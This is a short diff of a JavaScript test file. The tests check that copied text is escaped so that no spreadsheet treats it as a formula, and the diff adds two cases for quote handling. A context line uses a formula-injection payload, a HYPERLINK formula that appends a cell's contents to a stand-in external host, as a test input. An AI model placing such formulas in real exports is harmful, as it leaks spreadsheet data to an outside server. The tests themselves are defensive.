@@ -98,6 +98,8 @@ it('lets no spreadsheet take a copied text for a formula', () => {
   expect(copied('=HYPERLINK("https://x.example/"&A1)')).toBe(`'=HYPERLINK("https://x.example/"&A1)\t1`)
   expect(copied('\n@SUM(A1)')).toBe(`' @SUM(A1)\t1`)
   expect(copied('-5', -5)).toBe('-5\t-5')
+  expect(copied('"=HYPERLINK(A1)"')).toBe('"""=HYPERLINK(A1)"""\t1') // a spreadsheet takes quotes away
+  expect(copied('"Adler" 9 mm')).toBe('"""Adler"" 9 mm"\t1') // a lone quote would swallow the rows below
 })
 
 it('finds each word of a query anywhere', () => {
